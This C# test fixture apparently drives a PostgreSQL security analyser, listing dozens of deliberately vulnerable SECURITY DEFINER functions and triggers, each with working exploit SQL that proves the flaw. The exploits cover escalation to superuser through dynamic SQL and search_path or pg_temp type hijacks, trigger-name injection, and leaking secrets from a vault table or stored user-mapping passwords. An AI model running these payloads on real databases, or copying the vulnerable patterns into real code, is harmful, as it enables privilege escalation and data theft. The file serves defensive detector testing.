using static Pipeline.Postgres.FindingKind;
using static Pipeline.Postgres.Severity;

namespace Pipeline.Postgres.Tests.Reach;

/// <summary>A definer function whose text does not say at first sight what it does.</summary>
internal static class BodyTraps
{
    private const string Super = "; SELECT rolsuper FROM pg_roles WHERE rolname = current_user";
    private const string Keys = "SELECT string_agg(k, ',') FROM vault.keys";
    private const string Pinned = " SECURITY DEFINER SET search_path = pg_catalog, pg_temp ";
    private const string Got = "; SELECT current_setting('x.got') = 'the secret'";
    private const string Cmd = "SET x.cmd = 'SELECT set_config(''x.got'', k, false) FROM vault.keys'; ";
    private const string Body =
        "LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS 'BEGIN EXECUTE coalesce(current_setting(''x.cmd'', true), ''SELECT 1''); RETURN $1; END'; ";
    private const string Run = "CREATE FUNCTION vault.run(int) RETURNS int " + Body;
    private const string Temporary = "GRANT TEMPORARY ON DATABASE $db TO $app; ";

    public static readonly IReadOnlyList<Trap> All =
    [
        new(
            "a backslash in a literal",
            "CREATE FUNCTION run(text) RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ DECLARE t text := '\\'; BEGIN EXECUTE $1; t := '\\'; END $x$",
            "SELECT run('ALTER ROLE $app SUPERUSER')" + Super,
            DefinerFunction,
            Breach,
            "dynamic SQL"
        ),
        new(
            "nested comments",
            "CREATE FUNCTION run(text) RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN /* a /* b */ ' */ EXECUTE $1; /* ' */ END $x$",
            "SELECT run('ALTER ROLE $app SUPERUSER')" + Super,
            DefinerFunction,
            Breach,
            "dynamic SQL"
        ),
        new(
            "DO in a body",
            "CREATE FUNCTION run() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN DO $y$ BEGIN EXECUTE current_setting('x.cmd'); END $y$; END $x$",
            Cmd + "SELECT run()" + Got,
            DefinerFunction,
            Breach,
            "dynamic SQL"
        ),
        new(
            "a table in brackets",
            "CREATE FUNCTION peek() RETURNS SETOF text LANGUAGE sql"
                + Pinned
                + "AS 'SELECT k FROM (vault.keys CROSS JOIN (VALUES (1)) v (x))'",
            "SELECT peek() = 'the secret'",
            DefinerFunction,
            Breach,
            "SELECT from vault.keys"
        ),
        new(
            "a name of three parts",
            "CREATE FUNCTION peek() RETURNS SETOF text LANGUAGE sql" + Pinned + "AS 'SELECT k FROM $db.vault.keys'",
            "SELECT peek() = 'the secret'",
            DefinerFunction,
            Breach,
            "SELECT from vault.keys"
        ),
        new(
            "a name with escapes",
            "CREATE FUNCTION peek() RETURNS SETOF text LANGUAGE sql"
                + Pinned
                + "AS 'SELECT k FROM vault.U&\"\\006beys\"'",
            "SELECT peek() = 'the secret'",
            DefinerFunction,
            Breach,
            "vault.keys"
        ),
        new(
            "a lock on others' table",
            "CREATE FUNCTION hold() RETURNS void LANGUAGE plpgsql" + Pinned + "AS 'BEGIN LOCK vault.keys; END'",
            "SELECT hold(); SELECT count(*) = 1 FROM pg_locks WHERE relation = (SELECT c.oid FROM pg_class c JOIN pg_namespace n ON n.oid = relnamespace WHERE nspname = 'vault' AND relname = 'keys') AND mode = 'AccessExclusiveLock'",
            DefinerFunction,
            Risk,
            "vault.keys"
        ),
        new(
            "a void function that leaves the secret in a setting",
            "CREATE FUNCTION peek() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN PERFORM set_config('x.got', k, false) FROM vault.keys; END $x$",
            "SELECT peek()" + Got,
            DefinerFunction,
            Breach,
            "SELECT from vault.keys"
        ),
        new(
            "a raise with using",
            "CREATE FUNCTION peek() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS 'DECLARE t text; BEGIN SELECT k INTO t FROM vault.keys; RAISE division_by_zero USING MESSAGE = t; END'",
            "DO 'BEGIN PERFORM peek(); EXCEPTION WHEN others THEN PERFORM set_config(''x.got'', SQLERRM, false); END'"
                + Got,
            DefinerFunction,
            Breach,
            "-> SELECT from vault.keys"
        ),
        new(
            "a helper that says it",
            "CREATE FUNCTION vault.say(text) RETURNS void LANGUAGE plpgsql AS $x$ BEGIN RAISE EXCEPTION '%', $1; END $x$; CREATE FUNCTION peek() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS 'BEGIN PERFORM vault.say(k) FROM vault.keys; END'",
            "DO 'BEGIN PERFORM peek(); EXCEPTION WHEN others THEN PERFORM set_config(''x.got'', SQLERRM, false); END'"
                + Got,
            DefinerFunction,
            Breach,
            "-> SELECT from vault.keys"
        ),
        new(
            "a trigger selects into the row",
            "CREATE FUNCTION work() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'BEGIN SELECT k INTO NEW.note FROM vault.keys LIMIT 1; RETURN NEW; END'; CREATE TRIGGER t BEFORE INSERT ON bot_statuses FOR EACH ROW EXECUTE FUNCTION work()",
            "INSERT INTO bot_statuses VALUES (7, ''); SELECT note = 'the secret' FROM bot_statuses WHERE id = 7",
            DefinerFunction,
            Breach,
            "-> SELECT from vault.keys"
        ),
        new(
            "a trigger returns another row",
            "CREATE FUNCTION work() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'DECLARE r public.bot_statuses; BEGIN r := NEW; SELECT k INTO r.note FROM vault.keys LIMIT 1; RETURN r; END'; CREATE TRIGGER t BEFORE INSERT ON bot_statuses FOR EACH ROW EXECUTE FUNCTION work()",
            "INSERT INTO bot_statuses VALUES (7, ''); SELECT note = 'the secret' FROM bot_statuses WHERE id = 7",
            DefinerFunction,
            Breach,
            "-> SELECT from vault.keys"
        ),
        new(
            "a body sets its own path from an argument",
            "CREATE FUNCTION tally(text) RETURNS bigint LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN PERFORM set_config('search_path', $1, true); RETURN (SELECT count(*) FROM bot_statuses); END $x$; "
                + Temporary,
            "CREATE TEMP TABLE base (id int); INSERT INTO base VALUES (1); CREATE FUNCTION pg_temp.f() RETURNS text LANGUAGE plpgsql AS 'BEGIN ALTER ROLE $app SUPERUSER; RETURN 1; END'; CREATE TEMP VIEW bot_statuses AS SELECT pg_temp.f() FROM base; SELECT tally('pg_temp')"
                + Super,
            DefinerFunction,
            Breach,
            "anything as $legacy"
        )
        {
            Seen = "a",
        },
        new(
            "a body that sets any parameter",
            "CREATE FUNCTION tune(text, text) RETURNS void LANGUAGE sql"
                + Pinned
                + "AS 'SELECT set_config($1, $2, false)'; SELECT lo_from_bytea(4713, 'the secret')",
            "SELECT tune('lo_compat_privileges', 'on'); SELECT lo_get(4713) = 'the secret'",
            DefinerFunction,
            Breach,
            "set_config"
        ),
        new(
            "a body that leaves a superuser's parameter",
            "CREATE FUNCTION quiet() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS 'BEGIN SET lo_compat_privileges = on; END'; SELECT lo_from_bytea(4714, 'the secret')",
            "SELECT quiet(); SELECT lo_get(4714) = 'the secret'",
            DefinerFunction,
            Breach,
            "lo_compat_privileges"
        ),
        new(
            "a type of the caller in a body",
            Temporary
                + "CREATE FUNCTION len(int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS 'DECLARE t text; BEGIN t := $1; RETURN 1; END'",
            "CREATE FUNCTION pg_temp.f(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN ALTER ROLE $app SUPERUSER; RETURN true; END'; CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.f(VALUE)); SELECT len(1)"
                + Super,
            DefinerFunction,
            Breach,
            "search_path without pg_temp last"
        )
        {
            Seen = "a",
        },
        new(
            "a cast to a type of the caller",
            Temporary
                + "CREATE FUNCTION len(int) RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT length($1::text)'",
            "CREATE FUNCTION pg_temp.f(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN ALTER ROLE $app SUPERUSER; RETURN true; END'; CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.f(VALUE)); SELECT len(1)"
                + Super,
            DefinerFunction,
            Breach,
            "search_path of the caller"
        )
        {
            Seen = "a",
        },
        new(
            "setval of any sequence in a body",
            "CREATE SEQUENCE vault.s; CREATE FUNCTION bump(text, bigint) RETURNS bigint LANGUAGE sql"
                + Pinned
                + "AS 'SELECT setval($1::regclass, $2)'",
            "SELECT bump('vault.s', 99) = 99",
            DefinerFunction,
            Breach,
            "setval"
        ),
        new(
            "setval of others' sequence in a body",
            "CREATE SEQUENCE vault.s; CREATE FUNCTION bump(bigint) RETURNS bigint LANGUAGE sql"
                + Pinned
                + "AS 'SELECT setval(''vault.s'', $1)'",
            "SELECT bump(99) = 99",
            DefinerFunction,
            Breach,
            "setval"
        ),
        new(
            "pg_user_mappings in a body",
            "CREATE EXTENSION postgres_fdw; CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw; CREATE USER MAPPING FOR $legacy SERVER far OPTIONS (user 'x', password 'the secret'); CREATE FUNCTION maps() RETURNS text LANGUAGE sql"
                + Pinned
                + "AS 'SELECT umoptions::text FROM pg_user_mappings WHERE umoptions IS NOT NULL LIMIT 1'",
            "SELECT maps() LIKE '%the secret%'",
            DefinerFunction,
            Breach,
            "pg_user_mappings"
        ),
        new(
            "pg_stats in a body",
            "INSERT INTO vault.keys SELECT i, 'the secret' FROM generate_series(2, 200) i; ANALYZE vault.keys; CREATE FUNCTION stats() RETURNS SETOF text LANGUAGE sql"
                + Pinned
                + "AS 'SELECT most_common_vals::text FROM pg_stats WHERE attname = ''k'''",
            "SELECT count(*) > 0 FROM stats() s WHERE s LIKE '%the secret%'",
            DefinerFunction,
            Breach,
            "pg_stats"
        ),
        new(
            "pg_stat_activity in a body",
            "CREATE FUNCTION act() RETURNS SETOF text LANGUAGE sql"
                + Pinned
                + "AS 'SELECT query FROM pg_stat_activity WHERE usename = ''trap_legacy'''",
            "SELECT count(*) > 0 FROM act() q WHERE q <> '<insufficient privilege>'",
            DefinerFunction,
            Risk,
            "pg_stat_activity"
        ),
        new(
            "pg_terminate_backend in a body",
            "CREATE FUNCTION stop(int) RETURNS boolean LANGUAGE sql" + Pinned + "AS 'SELECT pg_terminate_backend($1)'",
            "SELECT stop(1) IS NOT NULL",
            DefinerFunction,
            Risk,
            "pg_terminate_backend"
        ),
        new(
            "pg_ls_waldir in a body",
            "CREATE FUNCTION wal() RETURNS SETOF text LANGUAGE sql" + Pinned + "AS 'SELECT name FROM pg_ls_waldir()'",
            "SELECT count(*) > 0 FROM wal()",
            DefinerFunction,
            Risk,
            "pg_ls_waldir"
        ),
        new(
            "an operator in a body",
            "CREATE FUNCTION vault.dyn(text) RETURNS text LANGUAGE plpgsql AS 'BEGIN EXECUTE $1; RETURN 1; END'; CREATE OPERATOR public.@@@ (RIGHTARG = text, FUNCTION = vault.dyn); CREATE FUNCTION calm(text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS 'SELECT @@@ $1'",
            "SELECT calm('ALTER ROLE $app SUPERUSER')" + Super,
            DefinerFunction,
            Breach,
            "dynamic SQL"
        ),
        new(
            "a cast in a body",
            "CREATE TYPE box2 AS (x text); CREATE FUNCTION vault.dyn(box2) RETURNS int LANGUAGE plpgsql AS 'BEGIN EXECUTE ($1).x; RETURN 1; END'; CREATE CAST (box2 AS int) WITH FUNCTION vault.dyn(box2); CREATE FUNCTION calm(box2) RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS 'SELECT $1::int'",
            "SELECT calm(ROW('ALTER ROLE $app SUPERUSER')::box2)" + Super,
            DefinerFunction,
            Breach,
            "dynamic SQL"
        ),
        new(
            "a default of a definer function's argument",
            Run
                + "CREATE FUNCTION calm(x int DEFAULT vault.run(1)) RETURNS int LANGUAGE sql"
                + Pinned
                + "AS 'SELECT x'",
            Cmd + "SELECT calm()" + Got,
            DefinerFunction,
            Breach,
            "function vault.run(integer) runs as $legacy"
        ),
        new(
            "a read through a void function that writes a readable table by a helper",
            "CREATE FUNCTION vault.note(text) RETURNS void LANGUAGE sql AS 'UPDATE public.bot_statuses SET note = $1'; CREATE FUNCTION peek() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS 'BEGIN PERFORM vault.note(k) FROM vault.keys; END'",
            "SELECT peek(); SELECT note = 'the secret' FROM bot_statuses",
            DefinerFunction,
            Breach,
            "SELECT from vault.keys"
        ),
        new(
            "a notification tells it",
            "CREATE FUNCTION peek() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN PERFORM pg_notify('c', k) FROM vault.keys; END $x$",
            "SELECT peek(); SELECT true",
            DefinerFunction,
            Breach,
            "SELECT from vault.keys"
        ),
        new(
            "MERGE in a body",
            "CREATE FUNCTION poke() RETURNS void LANGUAGE sql"
                + Pinned
                + "AS 'MERGE INTO vault.keys t USING (VALUES (1)) s (id) ON s.id = t.id WHEN MATCHED THEN DELETE'",
            "SELECT poke()",
            DefinerFunction,
            Breach,
            "vault.keys"
        )
        {
            Effect = "SELECT count(*) FROM vault.keys",
        },
        new(
            "crosstab of an argument",
            "CREATE EXTENSION tablefunc; CREATE FUNCTION pivot(text) RETURNS SETOF tablefunc_crosstab_2 LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS 'SELECT * FROM crosstab2($1)'",
            "SELECT category_1 = 'the secret' FROM pivot('SELECT 1::text, 1::text, k FROM vault.keys')",
            DefinerFunction,
            Breach,
            "crosstab2() -> anything as $legacy"
        ),
        new(
            "a trigger that upserts into others' table",
            "CREATE FUNCTION work() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'BEGIN INSERT INTO vault.keys VALUES (NEW.id, NEW.note) ON CONFLICT (id) DO UPDATE SET k = excluded.k; RETURN NEW; END'; CREATE TRIGGER t AFTER INSERT OR UPDATE ON bot_statuses FOR EACH ROW EXECUTE FUNCTION work()",
            "UPDATE bot_statuses SET note = 'mine'",
            DefinerFunction,
            Breach,
            "UPDATE vault.keys"
        )
        {
            Effect = Keys,
        },
        new(
            "a table by the trigger's table name",
            Temporary
                + "CREATE FUNCTION work() RETURNS trigger LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN EXECUTE format('DELETE FROM vault.%I', TG_TABLE_NAME); RETURN NEW; END $x$",
            "CREATE TEMP TABLE keys (id int); CREATE TRIGGER t BEFORE INSERT ON keys FOR EACH ROW EXECUTE FUNCTION work(); INSERT INTO keys VALUES (1)",
            DefinerFunction,
            Breach,
            "DELETE from vault.keys"
        )
        {
            Seen = "a",
            Effect = "SELECT count(*) FROM vault.keys",
        },
        new(
            "TG_TABLE_NAME unquoted in dynamic SQL",
            Temporary
                + "CREATE FUNCTION work() RETURNS trigger LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN EXECUTE 'SELECT ' || TG_TABLE_NAME; RETURN NEW; END $x$",
            "CREATE TEMP TABLE \"set_config('x.got', k, false) FROM vault.keys\" (id int); CREATE TRIGGER t BEFORE INSERT ON \"set_config('x.got', k, false) FROM vault.keys\" FOR EACH ROW EXECUTE FUNCTION work(); INSERT INTO \"set_config('x.got', k, false) FROM vault.keys\" VALUES (1)"
                + Got,
            DefinerFunction,
            Breach,
            "dynamic SQL"
        )
        {
            Seen = "a",
        },
        new(
            "%I of an argument",
            "CREATE FUNCTION wipe(text) RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN EXECUTE format('DELETE FROM vault.%I', $1); END $x$",
            "SELECT wipe('keys')",
            DefinerFunction,
            Breach,
            "dynamic SQL"
        )
        {
            Effect = "SELECT count(*) FROM vault.keys",
        },
        new(
            "escapes in dynamic SQL",
            "CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS $x$ BEGIN EXECUTE E'DELETE FROM vault.\\x6beys'; END $x$",
            "SELECT wipe()",
            DefinerFunction,
            Breach,
            "dynamic SQL"
        )
        {
            Effect = "SELECT count(*) FROM vault.keys",
        },
        new(
            "an aggregate of a definer's",
            "CREATE FUNCTION vault.step(text, text) RETURNS text LANGUAGE plpgsql AS 'BEGIN EXECUTE $2; RETURN $2; END'; CREATE AGGREGATE vault.doall (text) (SFUNC = vault.step, STYPE = text); CREATE FUNCTION calm(text) RETURNS text LANGUAGE sql"
                + Pinned
                + "AS 'SELECT vault.doall($1)'",
            "SELECT calm('ALTER ROLE $app SUPERUSER')" + Super,
            DefinerFunction,
            Breach,
            "dynamic SQL"
        ),
        new(
            "pg_stat_statements in a body",
            "CREATE EXTENSION pg_stat_statements; CREATE FUNCTION texts() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS 'SELECT query FROM pg_stat_statements WHERE userid <> 1'",
            "SELECT count(*) > 0 FROM texts() q WHERE q <> '<insufficient privilege>'",
            DefinerFunction,
            Risk,
            "pg_stat_statements"
        ),
        new(
            "definer A to B to C",
            "CREATE FUNCTION vault.c(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE $1; END'; CREATE FUNCTION vault.b(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN PERFORM vault.c($1); END'; ALTER FUNCTION vault.b OWNER TO $other; GRANT USAGE ON SCHEMA vault TO $other, $group; CREATE FUNCTION a(text) RETURNS void LANGUAGE plpgsql"
                + Pinned
                + "AS 'BEGIN PERFORM vault.b($1); END'; ALTER FUNCTION a OWNER TO $group",
            "SELECT a('ALTER ROLE $app SUPERUSER')" + Super,
            DefinerFunction,
            Breach,
            "function vault.c(text) runs as $legacy"
        ),
        new(
            "a polymorphic argument of a type of the caller",
            Temporary
                + "CREATE FUNCTION show(anyelement) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT $1::text'",
            "CREATE TYPE pg_temp.odd AS (a int); CREATE FUNCTION pg_temp.f(pg_temp.odd) RETURNS text LANGUAGE plpgsql AS 'BEGIN ALTER ROLE $app SUPERUSER; RETURN 1; END'; CREATE CAST (pg_temp.odd AS text) WITH FUNCTION pg_temp.f(pg_temp.odd); SELECT show(ROW(1)::pg_temp.odd)"
                + Super,
            DefinerFunction,
            Breach,
            "of a type of the caller -> anything as $legacy"
        )
        {
            Seen = "a",
        },
        new(
            "a trigger of its own with a column of its own type",
            Temporary
                + "CREATE FUNCTION log() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'BEGIN INSERT INTO vault.keys VALUES (99, NEW.note); RETURN NEW; END'",
            "CREATE TYPE pg_temp.odd AS (a int); CREATE FUNCTION pg_temp.f(pg_temp.odd) RETURNS text LANGUAGE plpgsql AS 'BEGIN ALTER ROLE $app SUPERUSER; RETURN 1; END'; CREATE CAST (pg_temp.odd AS text) WITH FUNCTION pg_temp.f(pg_temp.odd) AS ASSIGNMENT; CREATE TEMP TABLE mine (note pg_temp.odd); CREATE TRIGGER t BEFORE INSERT ON mine FOR EACH ROW EXECUTE FUNCTION log(); INSERT INTO mine VALUES (ROW(1))"
                + Super,
            DefinerFunction,
            Breach,
            "of a type of the caller -> anything as $legacy"
        )
        {
            Seen = "a",
        },
        new(
            "a temporary table that a body expects",
            Temporary
                + "CREATE FUNCTION note(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'BEGIN CREATE TEMP TABLE IF NOT EXISTS scratch (t text); INSERT INTO scratch VALUES ($1); END'",
            "CREATE TEMP TABLE scratch (t text); CREATE FUNCTION pg_temp.f() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN ALTER ROLE $app SUPERUSER; RETURN NEW; END'; CREATE TRIGGER t BEFORE INSERT ON pg_temp.scratch FOR EACH ROW EXECUTE FUNCTION pg_temp.f(); SELECT note('x')"
                + Super,
            DefinerFunction,
            Breach,
            "has in pg_temp -> anything as $legacy"
        )
        {
            Seen = "a",
        },
        new(
            "a function in pg_temp that a body calls",
            Temporary
                + "CREATE FUNCTION note(text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'BEGIN RETURN pg_temp.helper($1); END'",
            "CREATE FUNCTION pg_temp.helper(text) RETURNS text LANGUAGE plpgsql AS 'BEGIN ALTER ROLE $app SUPERUSER; RETURN 1; END'; SELECT note('x')"
                + Super,
            DefinerFunction,
            Breach,
            "has in pg_temp -> anything as $legacy"
        )
        {
            Seen = "a",
        },
        new(
            "setval in a body in SQL-standard form",
            "CREATE SEQUENCE vault.s; CREATE FUNCTION bump(x bigint) RETURNS bigint LANGUAGE sql SECURITY DEFINER RETURN setval('vault.s', x)",
            "SELECT bump(99) = 99",
            DefinerFunction,
            Breach,
            "setval()"
        ),
        new(
            "set_config in a body in SQL-standard form",
            "SELECT lo_from_bytea(4719, 'the secret'); CREATE FUNCTION tune(a text, b text) RETURNS text LANGUAGE sql SECURITY DEFINER RETURN set_config(a, b, false)",
            "SELECT tune('lo_compat_privileges', 'on'); SELECT lo_get(4719) = 'the secret'",
            DefinerFunction,
            Breach,
            "set_config()"
        ),
    ];
}
